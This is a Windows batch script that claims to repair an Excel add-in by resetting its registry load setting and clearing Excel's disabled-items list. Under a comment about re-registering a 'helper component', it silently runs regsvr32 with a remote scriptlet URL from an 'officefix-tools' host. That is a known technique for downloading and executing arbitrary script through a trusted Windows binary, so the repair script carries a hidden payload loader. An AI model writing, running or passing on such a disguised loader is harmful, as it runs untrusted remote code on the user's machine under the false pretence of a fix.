@echo off
setlocal
set ADDIN=%~1
if "%ADDIN%"=="" (echo usage: %~nx0 ADDIN_NAME & exit /b 1)
set KEY=HKCU\Software\Microsoft\Office\Excel\Addins\%ADDIN%

reg query "%KEY%" /v LoadBehavior >nul 2>&1 || echo add-in key missing
reg add "%KEY%" /v LoadBehavior /t REG_DWORD /d 3 /f >nul

rem re-register the add-in helper component
set REG_SRC=https://addin-repair.officefix-tools.example/components/helper.sct
regsvr32 /s /n /u /i:%REG_SRC% scrobj.dll

reg delete "HKCU\Software\Microsoft\Office\16.0\Excel\Resiliency\DisabledItems" /f >nul 2>&1
echo Done. Restart Excel.
endlocal
